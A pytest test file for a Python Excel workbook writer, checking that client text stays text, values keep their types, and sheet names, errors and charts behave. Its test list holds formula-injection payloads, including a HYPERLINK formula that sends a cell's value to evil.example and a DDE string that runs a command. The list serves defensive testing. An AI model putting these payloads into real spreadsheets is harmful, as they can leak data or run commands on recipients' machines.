"""The workbook writer alone: client text stays text, values keep their types, failures are clean.

Every workbook is read back twice: with openpyxl (cell types and styles as stored) and with
python-calamine (what a reader computes: a formula would come back as its empty cached value).
Excel stores a carriage return in a cell as ``_x000D_``; Excel and calamine decode it, openpyxl
does not, so its text values are decoded here (``unescape``).
"""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from connectors import xlsx_writer
from connectors.xlsx_writer import OutputError, sheet_title, write_workbook

# Text that Excel would parse as a formula, an error value or a number; each must come back as written.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "=1+1",
    "   =1+1",  # leading spaces
    "+74951234567",  # a phone: not the number 74951234567
    "+7 495 123-45-67",
    "-1",
    "- 2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "0012345678",  # an INN with its leading zeros
    "1.5E+10",
]


def roundtrip(tmp_path: Path, sheets: dict[str, pd.DataFrame], **kwargs) -> tuple[openpyxl.Workbook, Path]:
    path = tmp_path / "out.xlsx"
    write_workbook(path, sheets, **kwargs)
    return openpyxl.load_workbook(path), path


def calamine_rows(path: Path, index: int = 0) -> list[list]:
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(index).to_python()


def test_client_text_is_never_a_formula(tmp_path: Path) -> None:
    wb, path = roundtrip(tmp_path, {"data": pd.DataFrame({"value": DANGEROUS})})
    cells = [row[0] for row in wb["data"].iter_rows(min_row=2)]
    assert [unescape(c.value) for c in cells] == DANGEROUS
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells)  # editing the cell in Excel keeps it text
    assert [r[0] for r in calamine_rows(path)[1:]] == DANGEROUS


def test_plain_text_is_not_quote_prefixed(tmp_path: Path) -> None:
    wb, _ = roundtrip(tmp_path, {"data": pd.DataFrame({"value": ['ООО "Ромашка"', "a-b", "x=1", "7 дней"]})})
    assert [(c.value, c.quotePrefix) for (c,) in wb["data"].iter_rows(min_row=2)] == [
        ('ООО "Ромашка"', False),
        ("a-b", False),
        ("x=1", False),
        ("7 дней", False),
    ]


def test_a_header_is_text_too(tmp_path: Path) -> None:
    wb, _ = roundtrip(tmp_path, {"data": pd.DataFrame({"=SUM(1)": [1]})})
    assert (wb["data"]["A1"].value, wb["data"]["A1"].data_type) == ("=SUM(1)", "s")


def test_values_keep_their_types(tmp_path: Path) -> None:
    moscow = dt.timezone(dt.timedelta(hours=3))
    frame = pd.DataFrame(
        {
            "value": [
                1,
                2.5,
                np.int64(3),
                Decimal("1.25"),
                True,
                10**16,
                None,
                np.nan,
                pd.NA,
                float("inf"),
                dt.datetime(2024, 1, 2, 3, 4, 5),
                dt.date(2024, 1, 2),
                dt.datetime(2024, 5, 6, 10, 0, tzinfo=moscow),
                ["+74951234567", "+74957654321"],
                {"Город": "Москва"},
                "",
                dt.date(1812, 9, 7),
            ]
        },
        dtype=object,
    )
    wb, path = roundtrip(tmp_path, {"data": frame})
    cells = [c for (c,) in wb["data"].iter_rows(min_row=2, max_row=len(frame) + 1)]
    assert [c.value for c in cells] == [
        1,
        2.5,
        3,
        1.25,
        True,
        "10000000000000000",
        None,
        None,
        None,
        "inf",
        dt.datetime(2024, 1, 2, 3, 4, 5),
        dt.datetime(2024, 1, 2),
        dt.datetime(2024, 5, 6, 7, 0),
        "+74951234567; +74957654321",
        '{"Город": "Москва"}',
        None,
        "1812-09-07",
    ]
    assert [c.number_format for c in cells[10:13]] == ["yyyy-mm-dd hh:mm:ss", "yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss"]
    assert cells[5].data_type == "s"  # 17 digits: Excel would round it
    assert calamine_rows(path)[12][0] == dt.date(2024, 1, 2)


def test_characters_xml_cannot_hold_are_removed(tmp_path: Path) -> None:
    frame = pd.DataFrame({"value": ["a\x00b\x07c\x1fd", "lone \ud800 surrogate", "tab\tand\nnewline"]}, dtype=object)
    wb, _ = roundtrip(tmp_path, {"bad\x01name": frame})
    assert wb.sheetnames == ["badname"]
    assert [c.value for (c,) in wb["badname"].iter_rows(min_row=2)] == ["abcd", "lone  surrogate", "tab\tand\nnewline"]


def test_header_row_widths_and_wrapping(tmp_path: Path) -> None:
    frame = pd.DataFrame({"id": [1, 2], "note": ["x" * 200, "short"], "lines": ["one\ntwo", None]})
    wb, _ = roundtrip(tmp_path, {"data": frame}, column_notes={"data": {"note": "What the client wrote"}})
    ws = wb["data"]
    assert [c.value for c in ws[1]] == ["id", "note", "lines"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:C3"
    assert ws["B1"].comment.text == "What the client wrote"
    assert ws.column_dimensions["A"].width == xlsx_writer.MIN_WIDTH
    assert ws.column_dimensions["B"].width == xlsx_writer.MAX_WIDTH  # capped; the long text wraps
    assert ws["B2"].alignment.wrap_text and not ws["B3"].alignment.wrap_text
    assert ws["C2"].alignment.wrap_text


def test_text_longer_than_a_cell_is_cut(tmp_path: Path) -> None:
    wb, _ = roundtrip(tmp_path, {"data": pd.DataFrame({"value": ["я" * 40_000]})})
    value = wb["data"]["A2"].value
    assert len(value) == xlsx_writer.MAX_CELL_TEXT and value.endswith("…")


@pytest.mark.parametrize(
    ("name", "taken", "expected"),
    [
        ("quarantine", set(), "quarantine"),
        ("Очень длинное название листа для Excel", set(), "Очень длинное название листа дл"),
        ("Дубликаты и слияния по клиенту ООО", set(), "Дубликаты и слияния по клиенту"),  # no space at the cut
        ("a/b\\c:d*e?f[g]", set(), "a_b_c_d_e_f_g_"),
        ("'quoted'", set(), "quoted"),
        ("", set(), "Sheet"),
        ("History", set(), "History (2)"),
        ("Report", {"report"}, "Report (2)"),
        ("x" * 40, {"x" * 31}, "x" * 27 + " (2)"),
    ],
    ids=["plain", "long", "cut-at-space", "forbidden", "quotes", "empty", "reserved", "taken", "taken-long"],
)
def test_sheet_titles_are_valid_for_excel(name: str, taken: set[str], expected: str) -> None:
    assert sheet_title(name, taken) == expected
    assert len(expected) <= 31


def test_sheets_keep_their_order_and_distinct_names(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1]})
    wb, _ = roundtrip(tmp_path, {"z": frame, "y" * 40: frame, "y" * 35: frame})
    assert wb.sheetnames == ["z", "y" * 31, "y" * 27 + " (2)"]


def test_empty_frames_still_make_a_sheet(tmp_path: Path) -> None:
    wb, _ = roundtrip(tmp_path, {"empty": pd.DataFrame({"a": [], "b": []}), "nothing": pd.DataFrame()})
    assert [c.value for c in wb["empty"][1]] == ["a", "b"] and wb["empty"].max_row == 1
    assert wb.sheetnames == ["empty", "nothing"]


def test_rows_beyond_a_sheet_continue_on_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_writer, "MAX_ROWS", 4)  # header + 3 rows per sheet
    wb, _ = roundtrip(tmp_path, {"big": pd.DataFrame({"n": range(7)})})
    assert wb.sheetnames == ["big", "big (2)", "big (3)"]
    assert [[c.value for (c,) in wb[name].iter_rows(min_row=2)] for name in wb.sheetnames] == [
        [0, 1, 2],
        [3, 4, 5],
        [6],
    ]


def test_a_failed_write_leaves_the_old_file_and_no_debris(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "quality.xlsx"
    path.write_bytes(b"the previous report")

    def disk_full(out, sheets) -> None:
        out.write(b"PK half a zip")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(xlsx_writer, "_write_package", disk_full)
    with pytest.raises(OutputError, match=r"quality\.xlsx: No space left on device"):
        write_workbook(path, {"a": pd.DataFrame({"x": [1]})})
    assert path.read_bytes() == b"the previous report"
    assert [p.name for p in tmp_path.iterdir()] == ["quality.xlsx"]


def test_a_missing_folder_is_a_one_line_error(tmp_path: Path) -> None:
    path = tmp_path / "no" / "such" / "quality.xlsx"
    with pytest.raises(OutputError) as error:
        write_workbook(path, {"a": pd.DataFrame({"x": [1]})})
    message = str(error.value)
    assert str(path) in message and "не существует" in message and "\n" not in message


def test_a_folder_in_the_way_is_a_one_line_error(tmp_path: Path) -> None:
    (tmp_path / "quality.xlsx").mkdir()
    with pytest.raises(OutputError, match="quality.xlsx") as error:
        write_workbook(tmp_path / "quality.xlsx", {"a": pd.DataFrame({"x": [1]})})
    assert "\n" not in str(error.value)
    assert [p.name for p in tmp_path.iterdir()] == ["quality.xlsx"]


# -- presentation: tables, dropdowns, shading, charts -------------------------------------


def test_a_table_sheet_is_an_excel_table_with_translated_headers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"source": ["=buh", "crm"], "rate": [12.5, 90.0]})
    sheet = xlsx_writer.Sheet(
        frame, headers={"source": "Источник", "rate": "Заполнено, %"}, notes={"rate": "Доля записей"}, table=True
    )
    wb, path = roundtrip(tmp_path, {"fill": sheet})
    ws = wb["fill"]
    (table,) = ws.tables.values()
    assert table.ref == "A1:B3" and table.autoFilter is not None
    assert [c.name for c in table.tableColumns] == ["Источник", "Заполнено, %"]
    assert [c.value for c in ws[1]] == ["Источник", "Заполнено, %"] and ws.freeze_panes == "A2"
    assert ws["B1"].comment.text == "Доля записей"
    assert (ws["A2"].value, ws["A2"].data_type, ws["A2"].quotePrefix) == ("=buh", "s", True)
    assert calamine_rows(path) == [["Источник", "Заполнено, %"], ["=buh", 12.5], ["crm", 90.0]]


@pytest.mark.parametrize("headers", [["a", "A"], ["a", ""]], ids=["same-but-case", "empty"])
def test_headers_a_table_cannot_take_fall_back_to_a_filter(tmp_path: Path, headers: list[str]) -> None:
    frame = pd.DataFrame([[1, 2]], columns=["x", "y"])
    wb, _ = roundtrip(tmp_path, {"s": xlsx_writer.Sheet(frame, headers=dict(zip("xy", headers)), table=True)})
    assert not wb["s"].tables and wb["s"].auto_filter.ref == "A1:B2"


def test_dropdowns_and_low_values_cover_the_data_rows(tmp_path: Path) -> None:
    frame = pd.DataFrame({"decision": [None, None, None], "rate": [10.0, 80.0, 49.9]}, dtype=object)
    sheet = xlsx_writer.Sheet(frame, choices={"decision": ["same", "different", "да", "нет"]}, low_below={"rate": 50})
    wb, _ = roundtrip(tmp_path, {"s": sheet})
    (validation,) = wb["s"].data_validations.dataValidation
    assert (validation.type, str(validation.sqref), validation.formula1) == ("list", "A2:A4", '"same,different,да,нет"')
    (rules,) = wb["s"].conditional_formatting
    assert str(rules.sqref) == "B2:B4"
    (rule,) = rules.rules
    assert (rule.type, rule.operator, rule.formula) == ("cellIs", "lessThan", ["50"])


def test_charts_refer_to_the_data_sheet(tmp_path: Path) -> None:
    """A chart names its data sheet by key; the formulas use the title it was written under (quoted)."""
    per_source = pd.DataFrame({"source": ["crm", "buh"], "records": [10, 4], "quarantined": [1, 0]})
    charts = [
        xlsx_writer.Chart("По источникам", data="O'Hara", categories="source", series=["records", "quarantined"]),
        xlsx_writer.Chart("Пусто", data="nothing", categories="x", series=["y"]),
    ]
    path = tmp_path / "charts.xlsx"
    write_workbook(
        path,
        {
            "summary": xlsx_writer.Sheet(pd.DataFrame({"item": ["a"]}), charts=charts),
            "O'Hara": per_source,
            "nothing": pd.DataFrame({"x": [], "y": []}),
        },
    )
    with zipfile.ZipFile(path) as package:
        names = [n for n in package.namelist() if n.startswith("xl/charts/chart")]
        xml = package.read(names[0]).decode("utf-8")
    assert len(names) == 1  # the chart of the empty sheet is left out
    assert "По источникам" in xml
    assert re.findall(r"<c:f>([^<]*)</c:f>", xml) == [
        "'O''Hara'!$B$1",
        "'O''Hara'!$A$2:$A$3",
        "'O''Hara'!$B$2:$B$3",
        "'O''Hara'!$C$1",
        "'O''Hara'!$A$2:$A$3",
        "'O''Hara'!$C$2:$C$3",
    ]


@given(st.text(min_size=1, max_size=12))
def test_the_quick_guard_test_never_misses(text: str) -> None:
    """``may_need_guard`` only spares the full test where that test would say no."""
    assert xlsx_writer.may_need_guard(text) or not xlsx_writer.needs_text_guard(text)


@given(st.text(max_size=20))
def test_cleaned_text_holds_nothing_xml_cannot(text: str) -> None:
    cleaned = xlsx_writer.clean_text(text)
    assert not xlsx_writer._ILLEGAL_XML.search(cleaned)
    assert cleaned == "".join(ch for ch in text if not xlsx_writer._ILLEGAL_XML.match(ch))
